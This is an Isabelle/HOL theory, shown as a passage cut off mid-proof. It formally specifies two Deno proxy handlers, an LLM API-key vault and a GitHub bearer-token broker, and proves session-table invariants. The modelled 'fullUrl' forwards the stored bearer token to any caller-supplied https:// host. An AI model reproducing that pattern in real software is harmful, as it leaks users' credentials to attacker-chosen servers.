theory Spec2Isabelle
  imports Main "HOL-Library.Word"
begin

section \<open>Values crossing the HTTP boundary\<close>

text \<open>
  Both brokers are Deno request handlers: \<open>llm-proxy\<close> (the multi-key vault) and
  \<open>github-proxy\<close> (the single-bearer-token broker). Each parses the request body as
  JSON, destructures a few fields, and answers with \<open>JSON.stringify\<close> of an object.

  JSON values are a datatype. Numbers are integers here: the only numbers the handlers
  compute are status codes and second counts; numbers inside relayed upstream bodies are
  carried through untouched.
\<close>

datatype json =
    JNull
  | JBool bool
  | JNum int
  | JStr string
  | JArr "json list"
  | JObj "(string \<times> json) list"

text \<open>JavaScript truthiness of a parsed JSON value (\<open>body ? \<dots> : \<dots>\<close>).\<close>

fun json_truthy :: "json \<Rightarrow> bool" where
  "json_truthy JNull = False"
| "json_truthy (JBool b) = b"
| "json_truthy (JNum n) = (n \<noteq> 0)"
| "json_truthy (JStr s) = (s \<noteq> [])"
| "json_truthy (JArr xs) = True"
| "json_truthy (JObj kvs) = True"

text \<open>
  The destructured request fields. A field is absent (\<open>undefined\<close>) or a string; the
  tables are declared \<open>Map<string, \<dots>>\<close> and \<open>Record<string, string>\<close>, and the model
  covers requests within those types. \<open>body\<close> is the one field relayed as arbitrary JSON.
  A handler reads only the fields it destructures and ignores the others.
\<close>

record request =
  action :: "string option"
  req_token :: "string option"
  req_tokenType :: "string option"
  sessionId :: "string option"
  endpoint :: "string option"
  req_method :: "string option"
  body :: "json option"
  provider :: "string option"
  apiKey :: "string option"

text \<open>\<open>!x\<close> for a field that is \<open>undefined\<close> or a string: only a non-empty string is truthy.\<close>

fun truthy :: "string option \<Rightarrow> bool" where
  "truthy None = False"
| "truthy (Some s) = (s \<noteq> [])"

fun opt_truthy :: "json option \<Rightarrow> bool" where
  "opt_truthy None = False"
| "opt_truthy (Some j) = json_truthy j"

text \<open>
  An inbound HTTP request: its method and what \<open>await req.json()\<close> followed by the
  destructuring yields, either a thrown error (with its message) or the fields.
\<close>

record http_request =
  http_method :: string
  payload :: "string + request"

text \<open>
  An answer: the status (200 when the handler gives none) and the object handed to
  \<open>JSON.stringify\<close> (\<open>None\<close> for the \<open>null\<close> body of the preflight answer).
\<close>

record response =
  status :: nat
  json_body :: "json option"

definition json_response :: "nat \<Rightarrow> json \<Rightarrow> response" where
  "json_response st j = \<lparr>status = st, json_body = Some j\<rparr>"

definition error_response :: "nat \<Rightarrow> string \<Rightarrow> response" where
  "error_response st msg = json_response st (JObj [(''error'', JStr msg)])"

section \<open>The session table: a JavaScript Map\<close>

text \<open>
  A \<open>Map\<close> is an insertion-ordered list of entries with distinct keys. \<open>set\<close> on a
  present key replaces the value in place, on a new key appends; \<open>delete\<close> removes
  the entry; \<open>get\<close> returns the value or \<open>undefined\<close>.
\<close>

type_synonym 's table = "(string \<times> 's) list"

definition map_get :: "string \<Rightarrow> 's table \<Rightarrow> 's option" where
  "map_get k tbl = map_of tbl k"

fun map_set :: "string \<Rightarrow> 's \<Rightarrow> 's table \<Rightarrow> 's table" where
  "map_set k v [] = [(k, v)]"
| "map_set k v ((k', v') # es) =
     (if k' = k then (k, v) # es else (k', v') # map_set k v es)"

definition map_delete :: "string \<Rightarrow> 's table \<Rightarrow> 's table" where
  "map_delete k tbl = filter (\<lambda>e. fst e \<noteq> k) tbl"

definition table_ok :: "'s table \<Rightarrow> bool" where
  "table_ok tbl = distinct (map fst tbl)"

record session_base =
  createdAt :: int

text \<open>
  \<open>cleanupSessions\<close>: one pass over the entries, deleting each whose age exceeds the
  time to live \<open>ttl\<close>. The two source files differ only in that constant.
\<close>

fun cleanup_loop ::
  "int \<Rightarrow> int \<Rightarrow> (string \<times> 'a session_base_scheme) list \<Rightarrow> 'a session_base_scheme table
     \<Rightarrow> 'a session_base_scheme table" where
  "cleanup_loop ttl now [] tbl = tbl"
| "cleanup_loop ttl now ((sid, d) # es) tbl =
     cleanup_loop ttl now es (if now - createdAt d > ttl then map_delete sid tbl else tbl)"

definition cleanupSessions ::
  "int \<Rightarrow> int \<Rightarrow> 'a session_base_scheme table \<Rightarrow> 'a session_base_scheme table" where
  "cleanupSessions ttl now tbl = cleanup_loop ttl now tbl tbl"

section \<open>Session identifiers\<close>

text \<open>The digit characters that \<open>Number.prototype.toString\<close> prints.\<close>

definition digit_char :: "nat \<Rightarrow> char" where
  "digit_char n = ''0123456789abcdef'' ! (n mod 16)"

text \<open>\<open>Number.prototype.toString(16)\<close> on a non-negative integer.\<close>

function toString16 :: "nat \<Rightarrow> string" where
  "toString16 n = (if n < 16 then [digit_char n] else toString16 (n div 16) @ [digit_char (n mod 16)])"
  by pat_completeness auto
termination
  by (relation "measure id") auto

declare toString16.simps [simp del]

definition padStart :: "nat \<Rightarrow> char \<Rightarrow> string \<Rightarrow> string" where
  "padStart n c s = replicate (n - length s) c @ s"

text \<open>
  \<open>generateSessionId\<close>: 32 bytes from \<open>crypto.getRandomValues\<close> (the function \<open>rnd\<close>
  gives the byte at each index), each printed as two hexadecimal digits.
\<close>

definition generateSessionId :: "(nat \<Rightarrow> 8 word) \<Rightarrow> string" where
  "generateSessionId rnd =
     concat (map (\<lambda>i. padStart 2 (CHR ''0'') (toString16 (unat (rnd i)))) [0..<32])"

section \<open>Plain objects used as dictionaries\<close>

text \<open>
  A vault session holds \<open>keys: {}\<close>, an ordinary object. Its own properties are kept
  in creation order. Assignment replaces an own property in place or appends a new one,
  \<open>delete\<close> removes the own property, and a read falls back to \<open>Object.prototype\<close>
  when there is no own property of that name.
\<close>

type_synonym props = "(string \<times> string) list"

text \<open>
  The properties every object literal inherits from \<open>Object.prototype\<close>; all are
  functions, hence truthy. (Deno removes the \<open>__proto__\<close> accessor from
  \<open>Object.prototype\<close>, so that name is an ordinary property name there.)
\<close>

definition object_prototype_names :: "string list" where
  "object_prototype_names =
     [''constructor'', ''hasOwnProperty'', ''isPrototypeOf'', ''propertyIsEnumerable'',
      ''toLocaleString'', ''toString'', ''valueOf'',
      ''__defineGetter__'', ''__defineSetter__'', ''__lookupGetter__'', ''__lookupSetter__'']"

definition prop_set :: "string \<Rightarrow> string \<Rightarrow> props \<Rightarrow> props" where
  "prop_set p v ps = map_set p v ps"

definition prop_delete :: "string \<Rightarrow> props \<Rightarrow> props" where
  "prop_delete p ps = filter (\<lambda>e. fst e \<noteq> p) ps"

text \<open>Truthiness of \<open>obj[p]\<close>: the own value if there is one, else the inherited one.\<close>

definition prop_truthy :: "string \<Rightarrow> props \<Rightarrow> bool" where
  "prop_truthy p ps =
     (case map_of ps p of
        Some v \<Rightarrow> v \<noteq> []
      | None \<Rightarrow> List.member object_prototype_names p)"

text \<open>
  \<open>Object.keys\<close>: the own property names, array indices first in ascending numeric
  order, then the other names in creation order. An array index is a canonical decimal
  numeral below \<open>2^32 - 1\<close>.
\<close>

definition decimal_value :: "string \<Rightarrow> int" where
  "decimal_value s = foldl (\<lambda>a c. 10 * a + (of_char c - 48)) 0 s"

definition is_array_index :: "string \<Rightarrow> bool" where
  "is_array_index s =
     (case s of
        [] \<Rightarrow> False
      | c # cs \<Rightarrow>
          list_all (\<lambda>d. List.member ''0123456789'' d) s
          \<and> (if c = CHR ''0'' then cs = [] else True)
          \<and> decimal_value s < 4294967295)"

definition object_keys :: "props \<Rightarrow> string list" where
  "object_keys ps =
     sort_key decimal_value (filter is_array_index (map fst ps))
     @ filter (\<lambda>n. \<not> is_array_index n) (map fst ps)"

section \<open>The environment of one request\<close>

text \<open>
  \<open>Date.now()\<close> is read once by the sweep and at most once by the action that follows;
  \<open>rnd\<close> is the output of \<open>crypto.getRandomValues\<close>.
\<close>

record env =
  sweep_now :: int
  now :: int
  rnd :: "nat \<Rightarrow> 8 word"

text \<open>\<open>!x\<close> on a request field, and the string of a field known to be truthy.\<close>

definition falsy :: "string option \<Rightarrow> bool" where
  "falsy x = (\<not> truthy x)"

fun str :: "string option \<Rightarrow> string" where
  "str None = []"
| "str (Some s) = s"

definition preflight :: response where
  "preflight = \<lparr>status = 200, json_body = None\<rparr>"

section \<open>llm-proxy: the multi-key vault\<close>

record vault_session = session_base +
  keys :: props

definition providers_json :: "props \<Rightarrow> json" where
  "providers_json ps = JArr (map JStr (object_keys ps))"

text \<open>\<open>cleanupSessions\<close> of this file: 24 hours.\<close>

definition llm_cleanupSessions :: "int \<Rightarrow> vault_session table \<Rightarrow> vault_session table" where
  "llm_cleanupSessions t tbl = cleanupSessions 86400000 t tbl"

definition llm_get_session ::
  "env \<Rightarrow> vault_session table \<Rightarrow> request \<Rightarrow> response \<times> vault_session table" where
  "llm_get_session e tbl r =
     (case (if truthy (sessionId r) then map_get (str (sessionId r)) tbl else None) of
        None \<Rightarrow>
          (let newSessionId = generateSessionId (rnd e);
               session = \<lparr>createdAt = now e, keys = []\<rparr>
           in (json_response 200
                 (JObj [(''sessionId'', JStr newSessionId),
                        (''providers'', providers_json (keys session)),
                        (''expiresIn'', JNum 86400)]),
               map_set newSessionId session tbl))
      | Some session \<Rightarrow>
          (json_response 200
             (JObj [(''sessionId'', JStr (str (sessionId r))),
                    (''providers'', providers_json (keys session)),
                    (''expiresIn'',
                       JNum (max 0 (86400 - (now e - createdAt session) div 1000)))]),
           tbl))"

definition llm_set_key ::
  "env \<Rightarrow> vault_session table \<Rightarrow> request \<Rightarrow> response \<times> vault_session table" where
  "llm_set_key e tbl r =
     (if falsy (sessionId r) \<or> falsy (provider r) \<or> falsy (apiKey r)
      then (error_response 400 ''Session ID, provider, and API key are required'', tbl)
      else
        (let sid = str (sessionId r);
             session = (case map_get sid tbl of
                          None \<Rightarrow> \<lparr>createdAt = now e, keys = []\<rparr>
                        | Some s \<Rightarrow> s);
             session' = session\<lparr>keys := prop_set (str (provider r)) (str (apiKey r)) (keys session)\<rparr>
         in (json_response 200
               (JObj [(''success'', JBool True),
                      (''providers'', providers_json (keys session'))]),
             map_set sid session' tbl)))"

definition llm_remove_key ::
  "vault_session table \<Rightarrow> request \<Rightarrow> response \<times> vault_session table" where
  "llm_remove_key tbl r =
     (if falsy (sessionId r) \<or> falsy (provider r)
      then (error_response 400 ''Session ID and provider are required'', tbl)
      else
        (case map_get (str (sessionId r)) tbl of
           None \<Rightarrow>
             (json_response 200 (JObj [(''success'', JBool True), (''providers'', JArr [])]),
              tbl)
         | Some session \<Rightarrow>
             (let session' = session\<lparr>keys := prop_delete (str (provider r)) (keys session)\<rparr>
              in (json_response 200
                    (JObj [(''success'', JBool True),
                           (''providers'', providers_json (keys session'))]),
                  map_set (str (sessionId r)) session' tbl))))"

definition llm_check_key ::
  "vault_session table \<Rightarrow> request \<Rightarrow> response \<times> vault_session table" where
  "llm_check_key tbl r =
     (if falsy (sessionId r) \<or> falsy (provider r)
      then (error_response 400 ''Session ID and provider are required'', tbl)
      else
        (let hasKey = (case map_get (str (sessionId r)) tbl of
                         None \<Rightarrow> False
                       | Some session \<Rightarrow> prop_truthy (str (provider r)) (keys session))
         in (json_response 200 (JObj [(''hasKey'', JBool hasKey)]), tbl)))"

definition llm_destroy_session ::
  "vault_session table \<Rightarrow> request \<Rightarrow> response \<times> vault_session table" where
  "llm_destroy_session tbl r =
     (json_response 200 (JObj [(''success'', JBool True)]),
      if truthy (sessionId r) then map_delete (str (sessionId r)) tbl else tbl)"

definition llm_action ::
  "env \<Rightarrow> vault_session table \<Rightarrow> request \<Rightarrow> response \<times> vault_session table" where
  "llm_action e tbl r =
     (if action r = Some ''get_session'' then llm_get_session e tbl r
      else if action r = Some ''set_key'' then llm_set_key e tbl r
      else if action r = Some ''remove_key'' then llm_remove_key tbl r
      else if action r = Some ''check_key'' then llm_check_key tbl r
      else if action r = Some ''destroy_session'' then llm_destroy_session tbl r
      else (error_response 400 ''Invalid action'', tbl))"

text \<open>
  The request handler: the preflight answer, else the sweep (24 hours), then the
  parse, then the action. An error thrown while parsing is caught and answered with 500.
\<close>

definition llm_proxy ::
  "env \<Rightarrow> vault_session table \<Rightarrow> http_request \<Rightarrow> response \<times> vault_session table" where
  "llm_proxy e tbl rq =
     (if http_method rq = ''OPTIONS'' then (preflight, tbl)
      else
        (let tbl0 = llm_cleanupSessions (sweep_now e) tbl
         in case payload rq of
              Inl msg \<Rightarrow> (error_response 500 msg, tbl0)
            | Inr r \<Rightarrow> llm_action e tbl0 r))"

section \<open>github-proxy: the single-bearer-token broker\<close>

record gh_session = session_base +
  token :: string
  tokenType :: string

text \<open>
  The upstream call is the one effect besides the table. A call is what the handler
  passes to \<open>fetch\<close>; \<open>fetch_body\<close> is the value handed to \<open>JSON.stringify\<close>.
  A reply is a status, the headers (names in lower case, as a \<open>Headers\<close> object keeps
  them) and a body that either decodes as JSON or makes \<open>json()\<close> throw. \<open>fetch\<close>
  itself may throw; the handler's \<open>catch\<close> turns any thrown error into a 500 answer.
\<close>

record fetch_call =
  url :: string
  fetch_method :: string
  headers :: "(string \<times> string) list"
  fetch_body :: "json option"

record upstream_response =
  up_status :: nat
  up_headers :: "(string \<times> string) list"
  up_json :: "string + json"

type_synonym fetch = "fetch_call \<Rightarrow> string + upstream_response"

definition ok :: "upstream_response \<Rightarrow> bool" where
  "ok resp = (200 \<le> up_status resp \<and> up_status resp \<le> 299)"

definition headers_get :: "string \<Rightarrow> upstream_response \<Rightarrow> json" where
  "headers_get name resp =
     (case map_of (up_headers resp) name of None \<Rightarrow> JNull | Some v \<Rightarrow> JStr v)"

definition startsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startsWith s pre = (take (length pre) s = pre)"

definition auth_headers :: "string \<Rightarrow> (string \<times> string) list" where
  "auth_headers tok =
     [(''Authorization'', ''Bearer '' @ tok),
      (''Accept'', ''application/vnd.github.v3+json''),
      (''User-Agent'', ''Lovable-App'')]"

text \<open>\<open>cleanupSessions\<close> of this file: 1 hour.\<close>

definition gh_cleanupSessions :: "int \<Rightarrow> gh_session table \<Rightarrow> gh_session table" where
  "gh_cleanupSessions t tbl = cleanupSessions 3600000 t tbl"

type_synonym gh_outcome = "response \<times> gh_session table \<times> fetch_call list"

text \<open>
  After storing the session the handler logs \<open>`\<dots> ${userData.login}`\<close>. Reading
  \<open>login\<close> throws when the decoded body is \<open>null\<close>, and converting the value to a
  string throws when it is an object with an own \<open>toString\<close> property (which is no
  function, being JSON) or an array holding such an object; \<open>join\<close> prints \<open>null\<close>
  elements as empty. \<open>JSON.parse\<close> keeps the last value of a repeated key.
\<close>

definition json_get :: "string \<Rightarrow> (string \<times> json) list \<Rightarrow> json option" where
  "json_get k kvs = map_of (rev kvs) k"

fun to_string_throws :: "json \<Rightarrow> bool" where
  "to_string_throws JNull = False"
| "to_string_throws (JBool b) = False"
| "to_string_throws (JNum n) = False"
| "to_string_throws (JStr s) = False"
| "to_string_throws (JArr xs) = list_ex to_string_throws xs"
| "to_string_throws (JObj kvs) = List.member (map fst kvs) ''toString''"

definition log_error :: "json \<Rightarrow> string option" where
  "log_error userData =
     (case userData of
        JNull \<Rightarrow> Some ''Cannot read properties of null (reading 'login')''
      | JBool b \<Rightarrow> None
      | JNum n \<Rightarrow> None
      | JStr s \<Rightarrow> None
      | JArr xs \<Rightarrow> None
      | JObj kvs \<Rightarrow>
          (case json_get ''login'' kvs of
             None \<Rightarrow> None
           | Some login \<Rightarrow>
               if to_string_throws login
               then Some ''Cannot convert object to primitive value''
               else None))"

definition gh_create_session ::
  "env \<Rightarrow> fetch \<Rightarrow> gh_session table \<Rightarrow> request \<Rightarrow> gh_outcome" where
  "gh_create_session e fetch tbl r =
     (if falsy (req_token r) then (error_response 400 ''Token is required'', tbl, [])
      else
        (let call = \<lparr>url = ''https://api.github.com/user'', fetch_method = ''GET'',
                     headers = auth_headers (str (req_token r)), fetch_body = None\<rparr>
         in case fetch call of
              Inl msg \<Rightarrow> (error_response 500 msg, tbl, [call])
            | Inr verifyResponse \<Rightarrow>
                if ok verifyResponse then
                  (case up_json verifyResponse of
                     Inl msg \<Rightarrow> (error_response 500 msg, tbl, [call])
                   | Inr userData \<Rightarrow>
                       (let newSessionId = generateSessionId (rnd e);
                            tbl' = map_set newSessionId
                                     \<lparr>createdAt = now e,
                                      token = str (req_token r),
                                      tokenType = (if truthy (req_tokenType r)
                                                   then str (req_tokenType r) else ''classic'')\<rparr>
                                     tbl
                        in case log_error userData of
                             Some msg \<Rightarrow> (error_response 500 msg, tbl', [call])
                           | None \<Rightarrow>
                               (json_response 200
                                  (JObj [(''sessionId'', JStr newSessionId),
                                         (''user'', userData),
                                         (''expiresIn'', JNum 3600)]),
                                tbl', [call])))
                else (error_response 401 ''Invalid GitHub token'', tbl, [call])))"

definition gh_destroy_session :: "gh_session table \<Rightarrow> request \<Rightarrow> gh_outcome" where
  "gh_destroy_session tbl r =
     (json_response 200 (JObj [(''success'', JBool True)]),
      (if truthy (sessionId r) then map_delete (str (sessionId r)) tbl else tbl),
      [])"

definition fullUrl :: "string \<Rightarrow> string" where
  "fullUrl ep =
     (if startsWith ep ''https://'' then ep
      else ''https://api.github.com'' @ (if startsWith ep ''/'' then ep else ''/'' @ ep))"

definition proxy_call :: "gh_session \<Rightarrow> request \<Rightarrow> fetch_call" where
  "proxy_call session r =
     \<lparr>url = fullUrl (str (endpoint r)),
      fetch_method = (if truthy (req_method r) then str (req_method r) else ''GET''),
      headers = auth_headers (token session)
                @ (if opt_truthy (body r) then [(''Content-Type'', ''application/json'')] else []),
      fetch_body = (if opt_truthy (body r) then body r else None)\<rparr>"

definition proxy_response :: "upstream_response \<Rightarrow> response" where
  "proxy_response proxyResponse =
     (let responseData = (case up_json proxyResponse of Inl msg \<Rightarrow> JObj [] | Inr j \<Rightarrow> j);
          rateLimit = JObj [(''limit'', headers_get ''x-ratelimit-limit'' proxyResponse),
                            (''remaining'', headers_get ''x-ratelimit-remaining'' proxyResponse),
                            (''reset'', headers_get ''x-ratelimit-reset'' proxyResponse)]
      in \<lparr>status = (if ok proxyResponse then 200 else up_status proxyResponse),
          json_body = Some (JObj [(''data'', responseData),
                                  (''status'', JNum (int (up_status proxyResponse))),
                                  (''rateLimit'', rateLimit)])\<rparr>)"

text \<open>
  \<open>new Response(body, {status})\<close> throws a \<open>RangeError\<close> for a status outside
  200..599 (101 apart) and, given a body, a \<open>TypeError\<close> for a null-body status (101,
  204, 205, 304). Every other answer of the two handlers passes one of the constants 200,
  400, 401 and 500, which are accepted; \<open>proxy\<close> passes the upstream's status when the
  upstream is not \<open>ok\<close>. The throw happens inside the handler's \<open>try\<close>, so it is
  answered with 500 and the error's message (in Deno's wording).
\<close>

text \<open>\<open>decimal\<close> prints a number as a template literal does.\<close>

function decimal :: "nat \<Rightarrow> string" where
  "decimal n = (if n < 10 then [digit_char n] else decimal (n div 10) @ [digit_char (n mod 10)])"
  by pat_completeness auto
termination
  by (relation "measure id") auto

declare decimal.simps [simp del]

definition response_init_error :: "nat \<Rightarrow> string option" where
  "response_init_error st =
     (if (st < 200 \<or> 599 < st) \<and> st \<noteq> 101
      then Some (''The status provided ('' @ decimal st
                 @ '') is not equal to 101 and outside the range [200, 599].'')
      else if st = 101 \<or> st = 204 \<or> st = 205 \<or> st = 304
      then Some ''Response with null body status cannot have body''
      else None)"

definition gh_proxy :: "fetch \<Rightarrow> gh_session table \<Rightarrow> request \<Rightarrow> gh_outcome" where
  "gh_proxy fetch tbl r =
     (if falsy (sessionId r) then (error_response 401 ''Session ID is required'', tbl, [])
      else
        (case map_get (str (sessionId r)) tbl of
           None \<Rightarrow> (error_response 401 ''Invalid or expired session'', tbl, [])
         | Some session \<Rightarrow>
             if falsy (endpoint r) then (error_response 400 ''Endpoint is required'', tbl, [])
             else
               (let call = proxy_call session r
                in case fetch call of
                     Inl msg \<Rightarrow> (error_response 500 msg, tbl, [call])
                   | Inr proxyResponse \<Rightarrow>
                       (case response_init_error (status (proxy_response proxyResponse)) of
                          None \<Rightarrow> (proxy_response proxyResponse, tbl, [call])
                        | Some msg \<Rightarrow> (error_response 500 msg, tbl, [call])))))"

definition gh_action :: "env \<Rightarrow> fetch \<Rightarrow> gh_session table \<Rightarrow> request \<Rightarrow> gh_outcome" where
  "gh_action e fetch tbl r =
     (if action r = Some ''create_session'' then gh_create_session e fetch tbl r
      else if action r = Some ''destroy_session'' then gh_destroy_session tbl r
      else if action r = Some ''proxy'' then gh_proxy fetch tbl r
      else (error_response 400 ''Invalid action'', tbl, []))"

text \<open>The request handler: preflight, else the sweep (1 hour), the parse, the action.\<close>

definition github_proxy ::
  "env \<Rightarrow> fetch \<Rightarrow> gh_session table \<Rightarrow> http_request \<Rightarrow> gh_outcome" where
  "github_proxy e fetch tbl rq =
     (if http_method rq = ''OPTIONS'' then (preflight, tbl, [])
      else
        (let tbl0 = gh_cleanupSessions (sweep_now e) tbl
         in case payload rq of
              Inl msg \<Rightarrow> (error_response 500 msg, tbl0, [])
            | Inr r \<Rightarrow> gh_action e fetch tbl0 r))"

section \<open>What a caller can and cannot see\<close>

text \<open>The strings a JSON value holds: its string values and its property names.\<close>

fun json_strings :: "json \<Rightarrow> string list" where
  "json_strings JNull = []"
| "json_strings (JBool b) = []"
| "json_strings (JNum n) = []"
| "json_strings (JStr s) = [s]"
| "json_strings (JArr xs) = concat (map json_strings xs)"
| "json_strings (JObj kvs) = concat (map (\<lambda>kv. fst kv # json_strings (snd kv)) kvs)"

text \<open>
  Two tables are alike when they hold the same session ids in the same order and the
  sessions under each id are alike. Vault sessions are alike when they were created at
  the same time and have keys for the same providers, whatever the (non-empty) key
  values; bearer-token sessions are alike when they were created at the same time,
  whatever the tokens.
\<close>

definition table_sim :: "('s \<Rightarrow> 's \<Rightarrow> bool) \<Rightarrow> 's table \<Rightarrow> 's table \<Rightarrow> bool" where
  "table_sim S t1 t2 = list_all2 (\<lambda>a b. fst a = fst b \<and> S (snd a) (snd b)) t1 t2"

definition sess_sim :: "vault_session \<Rightarrow> vault_session \<Rightarrow> bool" where
  "sess_sim s1 s2 =
     (createdAt s1 = createdAt s2
      \<and> map fst (keys s1) = map fst (keys s2)
      \<and> list_all (\<lambda>kv. snd kv \<noteq> []) (keys s1)
      \<and> list_all (\<lambda>kv. snd kv \<noteq> []) (keys s2))"


text \<open>
  Two requests are alike when they agree in everything but the values of the two
  secret-bearing fields, \<open>apiKey\<close> and \<open>token\<close>, each of which is present and
  non-empty in both or in neither.
\<close>

definition req_sim :: "request \<Rightarrow> request \<Rightarrow> bool" where
  "req_sim r1 r2 =
     (r2 = r1\<lparr>apiKey := apiKey r2, req_token := req_token r2\<rparr>
      \<and> truthy (apiKey r1) = truthy (apiKey r2)
      \<and> truthy (req_token r1) = truthy (req_token r2))"

definition http_sim :: "http_request \<Rightarrow> http_request \<Rightarrow> bool" where
  "http_sim rq1 rq2 =
     (http_method rq1 = http_method rq2
      \<and> (case payload rq1 of
            Inl msg1 \<Rightarrow> (case payload rq2 of Inl msg2 \<Rightarrow> msg1 = msg2 | Inr r2 \<Rightarrow> False)
          | Inr r1 \<Rightarrow> (case payload rq2 of Inl msg2 \<Rightarrow> False | Inr r2 \<Rightarrow> req_sim r1 r2)))"


text \<open>The call \<open>create_session\<close> makes to validate a token.\<close>

definition identity_call :: "string \<Rightarrow> fetch_call" where
  "identity_call tok = \<lparr>url = ''https://api.github.com/user'', fetch_method = ''GET'',
                         headers = auth_headers tok, fetch_body = None\<rparr>"

text \<open>The answers to a sequence of requests, each served on the table the last one left.\<close>

fun llm_run :: "vault_session table \<Rightarrow> (env \<times> http_request) list \<Rightarrow> response list" where
  "llm_run tbl [] = []"
| "llm_run tbl ((e, rq) # rest) =
     fst (llm_proxy e tbl rq) # llm_run (snd (llm_proxy e tbl rq)) rest"

section \<open>Sample values\<close>

text \<open>A request body with no field, an environment, and an upstream that is never reached.\<close>

definition no_fields :: request where
  "no_fields = \<lparr>action = None, req_token = None, req_tokenType = None, sessionId = None,
                 endpoint = None, req_method = None, body = None, provider = None,
                 apiKey = None\<rparr>"

definition post :: "request \<Rightarrow> http_request" where
  "post r = \<lparr>http_method = ''POST'', payload = Inr r\<rparr>"

definition env_at :: "int \<Rightarrow> env" where
  "env_at t = \<lparr>sweep_now = t, now = t, rnd = (\<lambda>i. of_nat i)\<rparr>"

definition unreachable :: fetch where
  "unreachable call = Inl ''network error''"

section \<open>Facts about the table operations\<close>

lemma map_get_map_set:
  "map_get k' (map_set k v tbl) = (if k' = k then Some v else map_get k' tbl)"
  by (induction tbl) (auto simp: map_get_def)

lemma map_get_map_delete:
  "map_get k' (map_delete k tbl) = (if k' = k then None else map_get k' tbl)"
  by (induction tbl) (auto simp: map_get_def map_delete_def)

lemma keys_map_set: "fst ` set (map_set k v tbl) = insert k (fst ` set tbl)"
  by (induction tbl) force+

lemma table_ok_map_set: "table_ok tbl \<Longrightarrow> table_ok (map_set k v tbl)"
  unfolding table_ok_def
proof (induction tbl)
  case Nil
  then show ?case by simp
next
  case (Cons e es)
  obtain k' v' where e: "e = (k', v')" by (cases e)
  from Cons have "distinct (map fst (map_set k v es))" by simp
  moreover have "k' \<noteq> k \<Longrightarrow> k' \<notin> set (map fst (map_set k v es))"
    using Cons.prems e by (auto simp: keys_map_set)
  ultimately show ?case using Cons.prems e by auto
qed

lemma table_ok_map_delete: "table_ok tbl \<Longrightarrow> table_ok (map_delete k tbl)"
  by (simp add: table_ok_def map_delete_def distinct_map_filter)

lemma map_delete_absent: "map_get k tbl = None \<Longrightarrow> map_delete k tbl = tbl"
  by (induction tbl) (auto simp: map_get_def map_delete_def split: if_splits)

lemma map_set_absent: "map_get k tbl = None \<Longrightarrow> map_set k v tbl = tbl @ [(k, v)]"
  by (induction tbl) (auto simp: map_get_def split: if_splits)

text \<open>The loop removes exactly the keys that some visited entry condemns.\<close>

lemma cleanup_loop_filter:
  "cleanup_loop ttl t es tbl =
     filter (\<lambda>e. \<not> (\<exists>d. (fst e, d) \<in> set es \<and> t - createdAt d > ttl)) tbl"
proof (induction es arbitrary: tbl)
  case Nil
  then show ?case by simp
next
  case (Cons e es)
  obtain sid d where e: "e = (sid, d)" by (cases e)
  show ?case
    unfolding e cleanup_loop.simps Cons.IH
    by (auto simp: map_delete_def intro!: filter_cong)
qed

lemma map_get_cleanup_loop:
  "map_get k (cleanup_loop ttl t es tbl) =
     (if \<exists>d. (k, d) \<in> set es \<and> t - createdAt d > ttl then None else map_get k tbl)"
proof (induction es arbitrary: tbl)
  case Nil
  then show ?case by simp
next
  case (Cons e es)
  obtain sid d where e: "e = (sid, d)" by (cases e)
  show ?case
    unfolding e cleanup_loop.simps Cons.IH
    by (auto simp: map_get_map_delete)
qed

lemma map_get_cleanupSessions:
  assumes "table_ok tbl"
  shows "map_get k (cleanupSessions ttl t tbl) =
     (case map_get k tbl of
        None \<Rightarrow> None
      | Some d \<Rightarrow> if t - createdAt d > ttl then None else Some d)"
proof -
  have "(k, d) \<in> set tbl \<longleftrightarrow> map_get k tbl = Some d" for d
    using assms by (simp add: table_ok_def map_get_def)
  then show ?thesis
    by (auto simp: cleanupSessions_def map_get_cleanup_loop split: option.splits)
qed

lemma map_get_cleanupSessions_None:
  "map_get k tbl = None \<Longrightarrow> map_get k (cleanupSessions ttl t tbl) = None"
  by (simp add: cleanupSessions_def map_get_cleanup_loop)

lemma cleanupSessions_filter:
  assumes "table_ok tbl"
  shows "cleanupSessions ttl t tbl = filter (\<lambda>e. t - createdAt (snd e) \<le> ttl) tbl"
proof -
  have "(\<not> (\<exists>d. (fst e, d) \<in> set tbl \<and> t - createdAt d > ttl)) = (t - createdAt (snd e) \<le> ttl)"
    if mem: "e \<in> set tbl" for e
  proof -
    have uniq: "d = snd e" if "(fst e, d) \<in> set tbl" for d
      using assms that mem unfolding table_ok_def
      by (metis eq_key_imp_eq_value prod.collapse)
    have "(fst e, snd e) \<in> set tbl" using mem by simp
    then show ?thesis using uniq by (metis not_less)
  qed
  then show ?thesis
    unfolding cleanupSessions_def cleanup_loop_filter by (auto intro!: filter_cong)
qed

lemma table_ok_cleanupSessions: "table_ok tbl \<Longrightarrow> table_ok (cleanupSessions ttl t tbl)"
  by (simp add: cleanupSessions_def cleanup_loop_filter table_ok_def distinct_map_filter)

text \<open>
  Distinct keys are an invariant: the table starts empty and every request keeps them
  distinct.
\<close>

lemma table_ok_llm_action: "table_ok tbl \<Longrightarrow> table_ok (snd (llm_action e tbl r))"
  by (auto simp: llm_action_def llm_get_session_def llm_set_key_def llm_remove_key_def
        llm_check_key_def llm_destroy_session_def Let_def table_ok_map_set table_ok_map_delete
        split: option.splits)

lemma table_ok_llm_proxy: "table_ok tbl \<Longrightarrow> table_ok (snd (llm_proxy e tbl rq))"
  by (auto simp: llm_proxy_def llm_cleanupSessions_def Let_def table_ok_cleanupSessions
        table_ok_llm_action split: sum.splits)

lemma table_ok_gh_action: "table_ok tbl \<Longrightarrow> table_ok (fst (snd (gh_action e f tbl r)))"
  by (auto simp: gh_action_def gh_create_session_def gh_proxy_def gh_destroy_session_def
        Let_def table_ok_map_set table_ok_map_delete split: option.splits sum.splits)

lemma table_ok_github_proxy:
  "table_ok tbl \<Longrightarrow> table_ok (fst (snd (github_proxy e f tbl rq)))"
  by (auto simp: github_proxy_def gh_cleanupSessions_def Let_def table_ok_cleanupSessions
        table_ok_gh_action split: sum.splits)

lemma table_ok_Nil: "table_ok []"
  by (simp add: table_ok_def)

section \<open>Facts about property lists and identifiers\<close>

lemma object_keys_Nil: "object_keys [] = []"
  by (simp add: object_keys_def)

lemma object_keys_single: "object_keys [(p, k)] = [p]"
  by (simp add: object_keys_def)

lemma set_object_keys: "set (object_keys ps) = fst ` set ps"
  by (auto simp: object_keys_def)

lemma length_toString16_byte:
  assumes "n < 256"
  shows "length (toString16 n) \<le> 2"
proof (cases "n < 16")
  case True
  then show ?thesis by (simp add: toString16.simps [of n])
next
  case False
